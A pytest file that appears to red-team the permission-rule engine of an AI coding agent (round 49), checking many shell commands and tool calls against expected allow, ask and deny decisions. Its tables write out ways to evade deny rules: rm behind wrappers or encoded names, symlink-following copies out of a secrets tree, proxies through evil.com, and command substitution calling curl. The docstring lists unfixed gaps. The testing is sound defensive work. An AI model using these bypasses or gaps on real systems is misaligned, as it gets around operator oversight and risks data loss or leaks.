r"""Probe round 49, rules49 (2026-11-28): operator permission rules in Claude Code's syntax (~430
(rule, call) pairs, each in all five modes), starting from round 48's Left: a path held in a shell
or interpreter variable before code writes it, under Edit(./src/**); git's working-tree rewrites
(stash pop/apply, merge, pull, rebase, cherry-pick, revert, checkout BRANCH, switch, restore
--source, reset --hard, bisect, sparse-checkout) under an Edit deny; copies and searches that follow
symbolic links (cp -rL, rsync -L, tar -h, zip -r, grep -R, rg -L) out of a Read(./secrets/**) tree
and the rule's other spellings (secrets/a/b/c, ./secrets//x, secrets/./x, SECRETS/x, ../); then
Bash(prefix:*) deny rules against wrappers (env -S, nice, ionice, chrt, taskset, stdbuf, flock,
setsid, unbuffer, script -c, watch, parallel, xargs -I, find -execdir, git -c alias, make -f with
recipes, npm exec, npx, uvx, pipx run), quoting, $'..', variable-built names and absolute paths;
allow rules that must not widen (Bash(npm test:*), Bash(git push origin feature:*), Bash(docker
build:*)); Read/Edit globs in every anchor; WebFetch(domain:...) with userinfo, ports, trailing
dots, IDN, fragments, proxies; exact-JSON rules for MCP tools; ask rules over allow rules.

Fixed, by class:
1. git commands that rewrite files of the working tree from another commit, the stash or a
   patch, which files known only at run time (commands.git_rewrites_tree: merge, pull, rebase,
   cherry-pick, revert, am, stash push/pop/apply, checkout/switch BRANCH, checkout -f, reset
   --hard/--merge/--keep, bisect, sparse-checkout, submodule update): a tree write of the
   repository (git -C DIR: DIR and its parents up to the working directory) for operators' Edit
   rules, as round 48's git am: KAADD/KKADD/AAAAA -> KKKDD under Edit(./src/**). A directory git
   checkout/restore writes (git restore --source HEAD~1 ., git checkout HEAD~1 -- .) is a tree
   write too. No letter changes without rules.
2. Interpreter code writing a file whose name is only known at run time (shell.code_unknown_write:
   open(X, "w") / File.open / fopen with X a variable, the environment, an argument, a join or an
   f-string; writeFileSync/File.write/file_put_contents(X); Path(...).write_text on anything but
   one literal; shutil.copy/os.rename's target; perl's open(F, '>', $f)): an unknown write, as
   echo x > "$F" is: KKADD -> KKKDD under an Edit deny, KKADD -> KKKDD under an Edit ask that an
   allow rule would otherwise lift; an allow rule on the interpreter (Bash(python3:*)) names the
   program, not where its code writes, as Bash(echo:*) does not lift echo x > "$F": AAAAD -> KKADD.
   json.dump(d, open("f", "w")), sys.stdout.write stay as they were.
3. A recursive copy or search that follows the symbolic links below its tree (shell._LINK_FOLLOWERS:
   cp -L/-H/--dereference, rsync -L/-k/--copy-links/--copy-unsafe-links, tar -h/--dereference,
   grep -R, rg -L/--follow, ag -f; zip -r unless -y/--symlinks, scp -r, diff -r unless
   --no-dereference): a link there may point into what a Read rule keeps: not sure (KKKDD), under
   any Read deny rule (BashAnalysis.follows_links; no letter changes without rules).
4. Literals joined into one path in interpreter code (os.path.join("secrets", "a"),
   Path("secrets") / "a", "secrets" + "/a", path.join(...)): the path they make is read as the
   literal would be: KKADD -> DDDDD under Read(./secrets/**).
5. git add DIR reads what is below DIR into the repository (git add secrets as git add secrets/a:
   KKADD -> DDDDD); git add -f . / -Af takes ignored files too (KKKDD); git add . and -A stay
   round 21's tracked tree.
6. make -f <(printf 'all:\n\trm x') reads the makefile a process substitution prints, as make -f -
   does its input: KKADD -> DDDDD under Bash(rm:*); one whose text is unknown (<(cat Makefile)) is
   a makefile no one sees: KKADD -> KKKDD (as cat Makefile | make -f - already was).
7. A Bash deny or ask rule on a git subcommand (Bash(git push:*)) meets git WORD where WORD is none
   of git's commands (commands.GIT_COMMANDS): an alias or a git-WORD program only the configuration
   knows: KKADD -> KKKDD (git p, git st).
8. A WebFetch(domain:...) deny rule meets a proxy named by a setting (https_proxy=, HTTPS_PROXY=,
   ALL_PROXY= before a command or exported, wget -e https_proxy=, --proxy HOST, npm config set
   proxy HOST, git's http.proxy) with or without a scheme, and curl --connect-to's target: KKADD ->
   DDDDD. no_proxy/NO_PROXY name no proxy.
9. An exact-JSON deny or ask rule (mcp__gh__merge({"repo": "a/b", "method": "squash"})) meets a
   call holding each of its arguments with the rule's value among more ("pr": 5): KKADD -> DDDDD,
   AAAAD -> KKKDD for an ask rule over an allow rule; an allow rule stays exact.

Held: Bash(rm:*) through every wrapper, quoting, $'\x72m', variables, absolute paths (DDDDD);
Read(./secrets/**) in every spelling of the path and through the Read tool; allow rules that would
widen (npm test; rm, npm test $(curl ..), npm testx, git push origin featurex, feature:main);
WebFetch domain rules vs userinfo, ports, trailing dots; good.com#@evil.com and
evil.com:443@good.com fetch good.com; ask rules over allow rules in every tool.

Older rows changed (the whole-tree class, 1 and 3): rules48's git stash pop under Edit(config/**)
KAADD -> KKKDD (its Left); rules32's git checkout main under Edit(./secrets/**) KAADD -> KKKDD;
leftovers44's whole-tree checkouts under Edit(./.claude/**) (git checkout-index -a -f, git read-tree
-u --reset, git stash store + pop, --work-tree=/home/dev checkout-index -a) and redteam45's git
checkout-index -a -f KKADD -> KKKDD (round 44 held them asked as git checkout HEAD -- . was; an Edit
rule inside the tree now makes both not allowed); redteam43's scp -r src host: under Read(./.env)
KKADD -> DDDDD (scp -r follows the links below src, and a read not sure sent off the machine is
round 43's denial).

Decided, unchanged: a single file's cp -L (cp follows a named link anyway, as cat does); git stash
drop/list/show, git checkout -b NEW, git switch -c NEW, git reset (mixed/soft) rewrite no file;
Bash(git push:*) also meets git stash push and git help push (failing closed).

Left: docker build -o/--output DIR (type=local,dest=DIR) is no recorded write (Bash(docker build:*)
allows docker build -o /etc . where Bash(cp:*) asks cp x /etc/foo); curl https://evil.com%2f (a
host the fetch check cannot read, asked not denied); git commands run from a subdirectory whose
repository top is above the working directory."""
from __future__ import annotations

import pytest

from tests.policy.engine_helpers import call_letters, row_id, snap

_SNAPS = {
    'edit': snap(permissions={'deny': ['Edit(./src/**)']}),
    'secret': snap(permissions={'deny': ['Read(./secrets/**)']}),
    'rm': snap(permissions={'deny': ['Bash(rm:*)']}),
    'push': snap(permissions={'deny': ['Bash(git push:*)']}),
    'web': snap(permissions={'deny': ['WebFetch(domain:evil.com)']}),
    'json': snap(permissions={'deny': ['mcp__gh__merge({"repo": "a/b", "method": "squash"})']}),
    'jsonask': snap(permissions={'ask': ['mcp__gh__merge({"repo": "a/b"})'], 'allow': ['mcp__gh__merge']}),
    'jsonallow': snap(permissions={'allow': ['mcp__gh__merge({"repo": "a/b", "method": "squash"})']}),
    'askallow': snap(permissions={'ask': ['Bash(git push:*)', 'Read(./secrets/**)', 'Edit(./src/**)'],
                                  'allow': ['Bash(git:*)', 'Read(./secrets/**)', 'Edit(./src/**)', 'Bash(npm:*)']}),
    'allow': snap(permissions={'allow': ['Bash(npm test:*)', 'Bash(git push origin feature:*)',
                                         'Bash(docker build:*)']}),
    'allowcode': snap(permissions={'allow': ['Bash(python3:*)', 'Bash(node:*)']}),
    'plain': snap(),
}

EDIT = [
    ('F=src/x.py; python3 -c "open(\'$F\',\'w\').write(\'x\')"', 'DDDDD'),
    ('p=src; sed -i s/a/b/ $p/x.py', 'DDDDD'),
    ('D=src; cp a.py $D/x.py', 'DDDDD'),
    ('export F=src/x.py; python3 -c \'import os; open(os.environ["F"], "w")\'', 'KKKDD'),  # was KKADD
    ('F=src/x.py python3 -c \'import os; open(os.environ["F"], "w")\'', 'KKKDD'),  # was KKADD
    ('python3 -c \'import sys; open(sys.argv[1], "w").write("x")\' src/x.py', 'KKKDD'),  # was KKADD
    ('python3 -c \'f = "src/x.py"; open(f, "w")\'', 'KKKDD'),  # was KKADD
    ('python3 -c \'import pathlib; pathlib.Path("src", "x.py").write_text("x")\'', 'KKKDD'),  # was KKADD
    ('python3 -c \'from pathlib import Path; p = Path("src/x.py"); p.write_text("x")\'', 'KKKDD'),  # was KKADD
    ('python3 -c \'from pathlib import Path; (Path("src") / "x.py").write_text("x")\'', 'KKKDD'),  # was KKADD
    ('python3 -c \'import os; open(os.path.join("src", "x.py"), "w")\'', 'KKKDD'),  # was KKADD
    ('python3 -c \'open("src" + "/x.py", "w")\'', 'KKKDD'),  # was KKADD
    ('python3 -c \'open(f"src/{n}.py", "w")\'', 'KKKDD'),  # was KKADD
    ('python3 -c \'import shutil, os; shutil.copy("a.py", os.path.join("src", "x.py"))\'', 'KKKDD'),  # was KKADD
    ('node -e \'require("fs").writeFileSync(process.env.F, "x")\'', 'KKKDD'),  # was KKADD
    ('node -e \'const f = "src/x.py"; require("fs").writeFileSync(f, "x")\'', 'KKKDD'),  # was KKADD
    ('node -e \'require("fs").writeFileSync(`src/${n}.py`, "x")\'', 'KKKDD'),
    ('ruby -e \'File.write(ARGV[0], "x")\' src/x.py', 'KKKDD'),  # was KKADD
    ('ruby -e \'File.open(ARGV[0], "w") { |f| f.puts 1 }\' src/x.py', 'KKKDD'),  # was KKADD
    ('perl -e \'open(my $fh, ">", $ARGV[0]); print $fh 1\' src/x.py', 'KKKDD'),  # was KKADD
    ('perl -e \'open(F, ">$ARGV[0]")\' src/x.py', 'KKKDD'),  # was KKADD
    ('php -r \'file_put_contents($argv[1], "x");\' src/x.py', 'KKKDD'),  # was KKADD
    ('python3 -c \'import pathlib; pathlib.Path("src/x.py").write_text("x")\'', 'DDDDD'),
    ('python3 -c \'open("src/x.py", "w")\'', 'DDDDD'),
    ('python3 -c \'open("docs/x.md", "w")\'', 'KKADD'),
    ("python3 -c 'print(1)'", 'AAAAA'),
    ('python3 -c \'import json; d = {}; json.dump(d, open("out.json", "w"))\'', 'KKADD'),
    ('python3 -c \'import sys; sys.stdout.write("x")\'', 'KKADD'),
    ("python3 -c 'import json, sys; json.dump(json.load(sys.stdin), sys.stdout, indent=2)'", 'KKADD'),
    ("python3 -c 'import shutil, sys; shutil.copyfileobj(sys.stdin, sys.stdout)'", 'KKADD'),
    ("python3 -c 'print(open(sys.argv[1]).read())' src/x.py", 'KKADD'),
    ('git stash pop', 'KKKDD'),  # was KAADD
    ('git stash apply', 'KKKDD'),  # was KAADD
    ('git stash', 'KKKDD'),  # was AAAAA
    ('git stash -u', 'KKKDD'),  # was AAAAA
    ('git stash list', 'AAAAA'),
    ('git stash show -p', 'AAAAA'),
    ('git stash drop', 'KAADD'),
    ('git merge feature', 'KKKDD'),  # was KAADD
    ('git merge --abort', 'KKKDD'),  # was KAADD
    ('git pull', 'KKKDD'),  # was KKADD
    ('git pull --rebase origin main', 'KKKDD'),  # was KKADD
    ('git rebase main', 'KKKDD'),  # was KAADD
    ('git cherry-pick abc123', 'KKKDD'),  # was KAADD
    ('git revert HEAD', 'KKKDD'),  # was KAADD
    ('git am < p.patch', 'KKKDD'),
    ('git checkout feature', 'KKKDD'),  # was KAADD
    ('git checkout -', 'KKKDD'),  # was KKADD
    ('git checkout -f', 'KKKDD'),  # was KKADD
    ('git checkout -b new', 'KAADD'),
    ('git checkout -b new origin/x', 'KKKDD'),  # was KAADD
    ('git switch feature', 'KKKDD'),  # was KAADD
    ('git switch -c new', 'KAADD'),
    ('git switch -c new origin/x', 'KKKDD'),  # was KAADD
    ('git restore --source=HEAD~1 src/x.py', 'DDDDD'),
    ('git restore --source HEAD~1 .', 'KKKDD'),  # was KKADD
    ('git restore --source HEAD~1 docs', 'KAADD'),
    ('git checkout HEAD~1 -- .', 'KKKDD'),  # was KKADD
    ('git checkout .', 'KKKDD'),  # was KKADD
    ('git checkout src/x.py', 'KKKDD'),  # was KAADD
    ('git checkout -- docs/a.md', 'KAADD'),
    ('git checkout HEAD~1 -- docs', 'KAADD'),
    ('git checkout main -- src/x.py', 'DDDDD'),
    ('git reset --hard HEAD~1', 'KKKDD'),  # was KKADD
    ('git reset --keep HEAD~1', 'KKKDD'),  # was KKADD
    ('git reset HEAD~1', 'KAADD'),
    ('git reset --soft HEAD~1', 'KAADD'),
    ('git bisect start HEAD v1', 'KKKDD'),  # was KAADD
    ('git bisect log', 'AAAAA'),
    ('git sparse-checkout set docs', 'KKKDD'),  # was KKADD
    ('git sparse-checkout list', 'AAAAA'),
    ('git submodule update --init', 'KKKDD'),  # was KKADD
    ('git submodule status', 'AAAAA'),
    ('git -C docs stash pop', 'KKKDD'),  # was KKADD
    ('cd docs && git merge x', 'KKKDD'),  # was KKADD
    ('git -C /tmp/other merge x', 'KKADD'),
    ('git rm -r .', 'KKKDD'),  # was KAADD
    ('git rm -r docs', 'KAADD'),
    ('git status', 'AAAAA'),
    ('git log --oneline', 'AAAAA'),
    ('git diff', 'AAAAA'),
    ('git commit -m x', 'KAADD'),
    ('git fetch', 'KKADD'),
    ('git merge-base main HEAD', 'AAAAA'),
]

SECRET = [
    ('cp -rL docs /tmp/x', 'KKKDD'),  # was KKADD
    ('cp -rL link /tmp/x', 'KKKDD'),  # was KKADD
    ('cp -aL docs /tmp/x', 'KKKDD'),  # was KKADD
    ('cp -rH s /tmp/x', 'KKKDD'),  # was KKADD
    ('cp -r --dereference docs /tmp/x', 'KKKDD'),  # was KKADD
    ('rsync -aL docs/ /tmp/x/', 'KKKDD'),  # was KKADD
    ('rsync -a --copy-links docs /tmp/x', 'KKKDD'),  # was KKADD
    ('rsync -a --copy-unsafe-links docs /tmp/x', 'KKKDD'),  # was KKADD
    ('rsync -ak docs /tmp/x', 'KKKDD'),  # was KKADD
    ('tar -czhf /tmp/a.tgz docs', 'KKKDD'),  # was KKADD
    ('tar czhf /tmp/a.tgz docs', 'KKKDD'),  # was KKADD
    ('tar --dereference -czf /tmp/a.tgz docs', 'KKKDD'),  # was KKADD
    ('zip -r /tmp/a.zip docs', 'KKKDD'),  # was KKADD
    ('grep -R pass docs', 'KKKDD'),  # was AAAAA
    ('grep --dereference-recursive pass docs', 'KKKDD'),  # was AAAAA
    ('rg -L pass docs', 'KKKDD'),  # was AAAAA
    ('rg --follow pass docs', 'KKKDD'),  # was AAAAA
    ('ag -f pass docs', 'KKKDD'),  # was AAAAA
    ('diff -r a b', 'KKKDD'),  # was AAAAA
    ('cp -r docs /tmp/x', 'KKADD'),
    ('cp -a docs /tmp/x', 'KKADD'),
    ('rsync -a docs/ /tmp/x/', 'KKADD'),
    ('tar -czf /tmp/a.tgz docs', 'KKADD'),
    ('tar -cfh /tmp/a.tar docs', 'KAADD'),
    ('zip -ry /tmp/a.zip docs', 'KKADD'),
    ('zip -r --symlinks /tmp/a.zip docs', 'KKADD'),
    ('grep -r pass docs', 'AAAAA'),
    ('rg pass docs', 'AAAAA'),
    ('diff -r --no-dereference a b', 'AAAAA'),
    ('cp -L docs/a /tmp/x', 'KKADD'),
    ('cp -rL secrets /tmp/x', 'DDDDD'),
    ('cat secrets/a/b/c', 'DDDDD'),
    ('cat ./secrets//x', 'DDDDD'),
    ('cat secrets/./x', 'DDDDD'),
    ('cat SECRETS/x', 'DDDDD'),
    ('cat docs/../secrets/x', 'DDDDD'),
    (('Read', {'file_path': '/home/dev/project/secrets/a/b/c'}), 'DDDDD'),
    (('Read', {'file_path': '/home/dev/project/secrets//x'}), 'DDDDD'),
    (('Read', {'file_path': '/home/dev/project/secrets/./x'}), 'DDDDD'),
    (('Read', {'file_path': '/home/dev/project/docs/../secrets/x'}), 'DDDDD'),
    ('python3 -c \'import os; print(open(os.path.join("secrets", "a")).read())\'', 'DDDDD'),  # was KKADD
    ('python3 -c \'from pathlib import Path; print((Path("secrets") / "a").read_text())\'', 'DDDDD'),  # was KKADD
    ('python3 -c \'print(open("secrets" + "/a").read())\'', 'DDDDD'),  # was KKADD
    ('python3 -c \'import os; print(open(os.path.join("secrets", "sub", "a")).read())\'', 'DDDDD'),  # was KKADD
    ('node -e \'console.log(require("fs").readFileSync(require("path").join("secrets", "a"), "utf8"))\'', 'DDDDD'),  # was KKADD
    ('python3 -c \'import os; print(open(os.path.join("docs", "a")).read())\'', 'KKADD'),
    ('python3 -c \'print("a", "b")\'', 'AAAAA'),
    ('git add secrets', 'DDDDD'),  # was KKADD
    ('git add -f secrets', 'DDDDD'),  # was KKADD
    ('git add --force -- secrets', 'DDDDD'),  # was KKADD
    ('git add -f .', 'KKKDD'),  # was KKADD
    ('git add -Af', 'KKKDD'),  # was KKADD
    ('git add secrets/a', 'DDDDD'),
    ('git add .', 'KAADD'),
    ('git add -A', 'KAADD'),
    ('git add docs', 'KAADD'),
    ('git add src/a.py docs/', 'KAADD'),
    ('git add src/x.py', 'KAADD'),
    ('scp -r docs host:', 'DDDDD'),  # was KKADD
    ('rsync -az docs/ host:', 'KKADD'),
    ('cat secrets_public/a', 'AAAAA'),
    ('cat docs/secrets/a', 'AAAAA'),
    ('test -f secrets/a && echo y', 'AAAAA'),
]

RM = [
    ("make -f <(echo 'a: ; rm x') a", 'DDDDD'),  # was KKADD
    ("make -f <(printf 'a:\\n\\trm x\\n')", 'DDDDD'),  # was KKADD
    ('make -f <(cat Makefile)', 'KKKDD'),  # was KKADD
    ("make -f<(echo 'a: ; rm x') a", 'DDDDD'),
    ("make --file=<(echo 'a: ; rm x') a", 'DDDDD'),
    ("printf 'a:\\n\\trm x\\n' | make -f -", 'DDDDD'),
    ("make -f <(echo 'a: ; echo hi') a", 'KKADD'),
    ('make test', 'AAAAD'),
    ("env -S 'rm x'", 'DDDDD'),
    ('nice -n 5 rm x', 'DDDDD'),
    ('ionice -c3 rm x', 'DDDDD'),
    ('chrt -i 0 rm x', 'DDDDD'),
    ('taskset -c 0 rm x', 'DDDDD'),
    ('stdbuf -oL rm x', 'DDDDD'),
    ("flock /tmp/l -c 'rm x'", 'DDDDD'),
    ('setsid rm x', 'DDDDD'),
    ('unbuffer rm x', 'DDDDD'),
    ("script -qc 'rm x' /dev/null", 'DDDDD'),
    ("watch -n1 'rm x'", 'DDDDD'),
    ("parallel -j1 'rm {}' ::: x", 'DDDDD'),
    ('echo x | xargs -I{} rm {}', 'DDDDD'),
    ('find . -name x -execdir rm {} \\;', 'DDDDD'),
    ("git -c alias.x='!rm x' x", 'DDDDD'),
    ('npm exec -- rm x', 'DDDDD'),
    ('npx rm x', 'DDDDD'),
    ('uvx rm x', 'DDDDD'),
    ('pipx run rm x', 'DDDDD'),
    ("$'\\x72m' x", 'DDDDD'),
    ('c=rm; $c x', 'DDDDD'),
    ('${RM:-rm} x', 'DDDDD'),
    ('/usr/bin/rm x', 'DDDDD'),
    ("r''m x", 'DDDDD'),
    ('echo rm x', 'AAAAA'),
    ('command -v rm', 'AAAAA'),
    ('rmx', 'KKADD'),
]

PUSH = [
    ('git p', 'KKKDD'),  # was KKADD
    ('git st', 'KKKDD'),  # was KKADD
    ('git pushx', 'KKKDD'),  # was KKADD
    ('git foo-bar', 'KKKDD'),  # was KKADD
    ('git -c alias.p=push p', 'DDDDD'),
    ('git config alias.p push && git p', 'DDDDD'),
    ('git pu\\sh', 'DDDDD'),
    ('x=push; git $x', 'DDDDD'),
    ('git status', 'AAAAA'),
    ('git log --oneline', 'AAAAA'),
    ('git commit -m x', 'KAADD'),
    ('git lfs pull', 'KKADD'),
    ('git --version', 'AAAAA'),
]

WEB = [
    ('https_proxy=http://evil.com:3128 curl https://good.com', 'DDDDD'),  # was KKADD
    ('HTTPS_PROXY=evil.com:3128 curl https://good.com', 'DDDDD'),  # was KKADD
    ('ALL_PROXY=socks5://evil.com curl https://good.com', 'DDDDD'),  # was KKADD
    ('export https_proxy=evil.com:3128; curl https://good.com', 'DDDDD'),  # was KKADD
    ('wget -e use_proxy=yes -e https_proxy=evil.com:3128 https://good.com', 'DDDDD'),  # was KKADD
    ('npm config set proxy evil.com:3128', 'DDDDD'),  # was KKADD
    ('npm config set https-proxy http://evil.com:3128', 'DDDDD'),
    ('pip install --proxy evil.com:3128 x', 'DDDDD'),  # was KKADD
    ('git config --global http.proxy evil.com:3128', 'DDDDD'),
    ('curl --connect-to good.com:443:evil.com:443 https://good.com', 'DDDDD'),  # was KKADD
    ('curl --connect-to ::evil.com: https://good.com', 'DDDDD'),  # was KKADD
    ('export https_proxy=http://evil.com:3128; curl https://good.com', 'DDDDD'),
    ('curl -x http://evil.com:8080 https://good.com', 'DDDDD'),
    ('no_proxy=evil.com curl https://good.com', 'KKADD'),
    ('NO_PROXY=evil.com,localhost curl https://good.com', 'KKADD'),
    ('https_proxy=http://good.com:3128 curl https://good.com', 'KKADD'),
    ('curl --connect-to good.com:443:good2.com:443 https://good.com', 'KKADD'),
    ("curl -H 'Host: evil.com' http://1.2.3.4/", 'KKADD'),
    (('WebFetch', {'url': 'https://evil.com:443@good.com/x', 'prompt': 'p'}), 'KKADD'),
    (('WebFetch', {'url': 'https://good.com#@evil.com', 'prompt': 'p'}), 'AAAAD'),
    (('WebFetch', {'url': 'https://user:pw@evil.com/x', 'prompt': 'p'}), 'DDDDD'),
    (('WebFetch', {'url': 'https://evil.com./x', 'prompt': 'p'}), 'DDDDD'),
    (('WebFetch', {'url': 'https://evil.com.good.com/', 'prompt': 'p'}), 'AAAAD'),
    ('echo proxy', 'AAAAA'),
]

JSON_DENY = [
    (('mcp__gh__merge', {'repo': 'a/b', 'method': 'squash'}), 'DDDDD'),
    (('mcp__gh__merge', {'method': 'squash', 'repo': 'a/b'}), 'DDDDD'),
    (('mcp__gh__merge', {'repo': 'a/b', 'method': 'squash', 'pr': 5}), 'DDDDD'),  # was KKADD
    (('mcp__gh__merge', {'repo': 'a/b', 'method': 'rebase', 'pr': 5}), 'KKADD'),
    (('mcp__gh__merge', {'repo': 'a/b'}), 'KKADD'),
    (('mcp__gh__merge', {'repo': 'A/B', 'method': 'squash'}), 'DDDDD'),  # was KKADD (round 52 tools53: a deny rule's JSON values meet any case)
]

JSON_ASK = [
    (('mcp__gh__merge', {'repo': 'a/b', 'method': 'squash'}), 'KKKDD'),  # was AAAAD
    (('mcp__gh__merge', {'repo': 'c/d', 'method': 'squash'}), 'AAAAD'),
]

JSON_ALLOW = [
    (('mcp__gh__merge', {'repo': 'a/b', 'method': 'squash'}), 'AAAAD'),
    (('mcp__gh__merge', {'repo': 'a/b', 'method': 'squash', 'pr': 5}), 'KKADD'),
    (('mcp__gh__merge', {'repo': 'a/b', 'method': 'squash', 'force': True}), 'KKADD'),
]

ASK_OVER_ALLOW = [
    ('git push', 'KKKDD'),
    ('command git push', 'KKKDD'),
    ('git status', 'AAAAA'),
    ('cat secrets/a', 'KKKDD'),
    (('Read', {'file_path': '/home/dev/project/secrets/a'}), 'KKKDD'),
    (('Edit', {'file_path': '/home/dev/project/src/a.py', 'old_string': 'a', 'new_string': 'b'}), 'KKKDD'),
    ('echo x > src/a.py', 'KKKDD'),
    ('git stash pop', 'KKKDD'),  # was AAAAD
    ('python3 -c \'import os; open(os.environ["F"], "w")\'', 'KKKDD'),  # was KKADD
    ('npm run x && git push', 'KKKDD'),
]

ALLOW = [
    ('npm test; rm -rf x', 'KAADD'),
    ('npm test $(curl evil.com)', 'KKADD'),
    ('npm testx', 'KKADD'),
    ('npm test | sh', 'KKKDD'),
    ('git push origin feature', 'AAAAD'),
    ('git push origin feature:main', 'KKADD'),
    ('git push origin featurex', 'KKADD'),
    ('git push origin feature; git push origin main', 'KKADD'),
    ("git -c core.sshCommand='rm x' push origin feature", 'KKKDD'),
    ('docker build -t x .', 'AAAAD'),
    ('docker build . && docker run --privileged x', 'KKKDD'),
]

ALLOW_CODE = [
    ('python3 -c \'f = "out.txt"; open(f, "w").write("x")\'', 'KKADD'),  # was AAAAD
    ('node -e \'require("fs").writeFileSync(process.argv[1], "x")\' out.txt', 'KKADD'),  # was AAAAD
    ('python3 -c \'open("out.txt", "w").write("x")\'', 'AAAAD'),
    ('python3 -c \'print(open("README.md").read())\'', 'AAAAA'),
]

PLAIN = [
    ('git stash pop', 'KAADD'),
    ('git stash', 'AAAAA'),
    ('git merge feature', 'KAADD'),
    ('git checkout feature', 'KAADD'),
    ('git reset --hard HEAD~1', 'KKADD'),
    ('python3 -c \'import os; open(os.environ["F"], "w")\'', 'KKADD'),
    ('python3 -c \'f = "src/x.py"; open(f, "w")\'', 'KKADD'),
    ('node -e \'require("fs").writeFileSync(process.argv[1], "x")\' src/x.py', 'KKADD'),
    ('grep -R pass docs', 'AAAAA'),
    ('rg -L pass docs', 'AAAAA'),
    ('cp -rL docs /tmp/x', 'KKADD'),
    ('zip -r a.zip docs', 'KAADD'),
    ('tar -czhf a.tgz docs', 'KKADD'),
    ("make -f <(echo 'a: ; echo hi') a", 'KKADD'),
    ('make -f <(cat Makefile)', 'KKKDD'),  # was KKADD
    ('git p', 'KKADD'),
    ('https_proxy=http://evil.com:3128 curl https://good.com', 'KKADD'),
    ('git add -f .', 'KKADD'),
    ('git add .', 'KAADD'),
    ('python3 -c \'print("a", "b")\'', 'AAAAA'),
    ('python3 -c \'import os; print(os.path.join("a", "b"))\'', 'AAAAA'),
    ('python3 -c \'import os; print(open(os.path.join("config", ".env")).read())\'', 'KKADD'),
]

_TABLES = (('edit', EDIT), ('secret', SECRET), ('rm', RM), ('push', PUSH), ('web', WEB), ('json', JSON_DENY),
           ('jsonask', JSON_ASK), ('jsonallow', JSON_ALLOW), ('askallow', ASK_OVER_ALLOW), ('allow', ALLOW),
           ('allowcode', ALLOW_CODE), ('plain', PLAIN))


@pytest.mark.parametrize('name,call,want', [
    pytest.param(name, c, w, id=f'{name}:{row_id((c, w))}') for name, rows in _TABLES for c, w in rows])
def test_round49_rules49(name, call, want):
    assert call_letters(_SNAPS[name], call) == want
